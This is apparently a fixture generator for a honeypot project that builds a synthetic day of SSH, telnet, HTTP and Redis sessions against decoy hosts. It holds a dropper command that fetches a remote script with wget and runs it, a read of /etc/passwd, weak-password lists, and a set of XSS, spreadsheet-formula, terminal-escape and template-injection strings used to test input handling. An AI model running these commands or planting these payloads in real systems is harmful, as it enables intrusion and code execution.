"""This module makes a day on a small fleet: believable visitors, and one whose every word is hostile."""

import random
from collections.abc import Iterator, Sequence

from attrs import define, field

from decnet_actors.domain.facts import (
    CloseReason,
    CommandSeen,
    CredentialSeen,
    Direction,
    DownloadRequested,
    Fact,
    FileCaptured,
    ForwardRequested,
    HttpRequestSeen,
    Outcome,
    ProtocolViolated,
    SessionClosed,
    SessionOpened,
    ShellCommandSeen,
    SshClientSeen,
    TelnetClientSeen,
    TerminalSeen,
)
from decnet_actors.domain.records import Record

NOW = 1_790_000_000.0
DAY = 86_400.0
FLEET = (
    ("web-01", "127.0.1.1", ("ssh", "http"), "Debian GNU/Linux 12 (bookworm)"),
    ("web-02", "127.0.1.2", ("ssh", "http"), "Ubuntu 22.04.5 LTS"),
    ("cache-01", "127.0.1.3", ("redis", "ssh"), "Debian GNU/Linux 12 (bookworm)"),
    ("fileserver", "127.0.1.4", ("ssh", "telnet"), "Debian GNU/Linux 11 (bullseye)"),
    ("printer-3f", "127.0.1.5", ("telnet", "http"), "Ubuntu 20.04.6 LTS"),
)
PORTS = {"ssh": 22, "telnet": 23, "http": 80, "redis": 6379}
SOURCES = (
    "203.0.113.7",
    "198.51.100.23",
    "198.51.100.88",
    "192.0.2.41",
    "203.0.113.199",
    "192.0.2.144",
    "2001:db8:44::9c1",
    "198.51.100.6",
    "203.0.113.54",
    "10.20.4.17",
)
USERS = ("root", "admin", "ubuntu", "pi", "oracle", "git", "postgres", "test", "user", "deploy")
SECRETS = (b"123456", b"password", b"admin", b"root", b"P@ssw0rd", b"1qaz2wsx", b"raspberry", b"toor", b"letmein", b"")
CLIENTS = ("SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_9.6", "SSH-2.0-paramiko_3.4.0", "SSH-2.0-ZGrab")
PATHS = ("/", "/login", "/.env", "/wp-login.php", "/actuator/health", "/cgi-bin/luci", "/.git/config")
LINES = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m",
    "cd /tmp; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; ./bins.sh",
    "crontab -l",
    "history -c",
)

HOSTILE = (
    "\x1b[2J\x1b[31mgone\x07",
    "user\u202etxt.exe\u202c",
    "<script>document.title='owned'</script><img src=x onerror=alert(1)>",
    "=cmd()|' /C calc'!A0",
    "nul\x00nul",
    "zero\u200bwidth\ufeff\u2028line",
    "A" * 10_000,
    "javascript:alert(1)//\\\"'`${7*7}{{7*7}}",
)


@define
class Visit:
    """One session as it is built up."""

    id: str
    decky: str
    service: str
    source: str
    port: int
    opened: float
    facts: list[tuple[float, Fact]] = field(factory=list)

    def add(self, after: float, fact: Fact) -> None:
        last = self.facts[-1][0] if self.facts else self.opened
        self.facts.append((last + after, fact))


def records() -> Sequence[Record]:
    """Return a day of facts in the order of their time."""
    rng = random.Random(20_260)
    visits = [_visit(rng, number) for number in range(240)]
    visits += [_intruder(rng), _hostile()]
    made = []
    for visit in visits:
        made += [
            Record(
                id="",
                time=time,
                host="hq",
                decky=visit.decky,
                service=visit.service,
                session=visit.id,
                source=visit.source,
                source_port=visit.port,
                fact=fact,
            )
            for time, fact in visit.facts
        ]
    return sorted(made, key=lambda record: record.time)


def _visit(rng: random.Random, number: int) -> Visit:
    decky, address, services, _ = rng.choices(FLEET, weights=(8, 5, 4, 3, 2))[0]
    service = rng.choice(services)
    # Busier towards the present, with a burst in the night.
    age = rng.uniform(0.02, 1.0) ** 1.3 * DAY if rng.random() > 0.2 else rng.gauss(9.5, 0.4) * 3600
    visit = Visit(
        id=f"0199a3b2c4d57e8f9a0b1c2d{number:08x}",
        decky=decky,
        service=service,
        source=rng.choices(SOURCES, weights=(20, 14, 9, 7, 6, 5, 4, 3, 2, 1))[0],
        port=rng.randint(32_768, 60_999),
        opened=NOW - max(120.0, age),
    )
    visit.add(0, SessionOpened(local_address=address, local_port=PORTS[service]))
    for fact in _talk(rng, service):
        visit.add(rng.uniform(0.2, 3.0), fact)
    end = visit.facts[-1][0] + rng.uniform(0.1, 2.0)
    if end < NOW - 60:
        duration = end - visit.opened
        visit.add(
            0.1,
            SessionClosed(
                reason=CloseReason.PEER,
                duration=duration,
                bytes_in=rng.randint(80, 9000),
                bytes_out=rng.randint(200, 20_000),
            ),
        )
    return visit


def _talk(rng: random.Random, service: str) -> Iterator[Fact]:
    if service == "http":
        for _ in range(rng.randint(1, 4)):
            path = rng.choice(PATHS)
            yield HttpRequestSeen(
                method=rng.choice(("GET", "GET", "POST")),
                target=path,
                version="HTTP/1.1",
                headers=((b"Host", b"127.0.1.1"), (b"User-Agent", b"Mozilla/5.0 zgrab/0.x")),
                body=b"",
                body_size=0,
                body_sha256="",
                status=200 if path in {"/", "/login"} else 404,
            )
        if rng.random() < 0.4:
            yield CredentialSeen(user=rng.choice(USERS), secret=rng.choice(SECRETS), mechanism="http form")
    elif service == "redis":
        yield CommandSeen(verb="INFO", args=())
        yield CommandSeen(verb="CONFIG", args=(b"GET", b"dir"))
        if rng.random() < 0.5:
            yield CredentialSeen(user=None, secret=rng.choice(SECRETS), mechanism="redis auth")
    else:
        if service == "ssh":
            yield SshClientSeen(version=rng.choice(CLIENTS), hassh="4e066189c3bbeec38c99b1855113733a", algorithms="")
        else:
            yield TelnetClientSeen(options=("DO ECHO", "WILL NAWS"), terminal="xterm")
        for _ in range(rng.randint(1, 6)):
            yield CredentialSeen(
                user=rng.choices(USERS, weights=(30, 20, 9, 8, 6, 5, 5, 4, 3, 2))[0],
                secret=rng.choice(SECRETS),
                mechanism=f"{service} password",
            )
        if rng.random() < 0.06:
            yield CredentialSeen(
                user="deploy", secret=b"deploy2024", mechanism=f"{service} password", outcome=Outcome.ACCEPTED
            )
            for line in rng.sample(LINES, 3):
                yield ShellCommandSeen(line=line, interactive=True, cwd="/root", user="deploy")


INTRUDER = "0199a3b2c4d57e8f9a0b1c2dffffff01"
HOSTILE_SESSION = "0199a3b2c4d57e8f9a0b1c2dffffff02"


def _intruder(rng: random.Random) -> Visit:
    visit = Visit(id=INTRUDER, decky="web-01", service="ssh", source="203.0.113.7", port=51_334, opened=NOW - 760)
    visit.add(0, SessionOpened(local_address="127.0.1.1", local_port=22))
    visit.add(
        0.1, SshClientSeen(version="SSH-2.0-OpenSSH_9.6", hassh="aae6b9604f6f3356543709a376d7f657", algorithms="")
    )
    visit.add(1.1, CredentialSeen(user="root", secret=b"toor", mechanism="ssh password"))
    visit.add(
        2.4, CredentialSeen(user="deploy", secret=b"deploy2024", mechanism="ssh password", outcome=Outcome.ACCEPTED)
    )
    visit.add(0.1, TerminalSeen(direction=Direction.OUT, data=b"$ "))
    for line in ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www", LINES[3]):
        visit.add(rng.uniform(3, 12), ShellCommandSeen(line=line, interactive=True, cwd="/home/deploy", user="deploy"))
    visit.add(0.2, DownloadRequested(url="http://198.51.100.23/bins.sh", mechanism="wget"))
    visit.add(
        0.4, FileCaptured(path="/tmp/bins.sh", sha256="9f2b" * 16, size=2_184, direction=Direction.IN, mechanism="wget")
    )
    visit.add(9.0, ForwardRequested(kind="direct-tcpip", host="10.20.0.5", port=445))
    visit.add(30.0, SessionClosed(reason=CloseReason.PEER, duration=92.0, bytes_in=3_120, bytes_out=18_944))
    return visit


def _hostile() -> Visit:
    visit = Visit(
        id=HOSTILE_SESSION, decky="fileserver", service="telnet", source="192.0.2.144", port=40_404, opened=NOW - 2_600
    )
    visit.add(0, SessionOpened(local_address="127.0.1.4", local_port=23))
    visit.add(0.5, TelnetClientSeen(options=("WILL NAWS",), terminal=HOSTILE[0]))
    for text in HOSTILE:
        visit.add(1.0, CredentialSeen(user=text, secret=text.encode(), mechanism="telnet login"))
    visit.add(
        0.3, CredentialSeen(user="deploy", secret=b"deploy2024", mechanism="telnet login", outcome=Outcome.ACCEPTED)
    )
    for text in HOSTILE:
        visit.add(1.0, ShellCommandSeen(line=text, interactive=True, cwd="/", user="deploy"))
    visit.add(1.0, ProtocolViolated(detail=HOSTILE[2], sample=b"\xff\xfd\x00"))
    visit.add(1.0, DownloadRequested(url=HOSTILE[7], mechanism="wget"))
    return visit
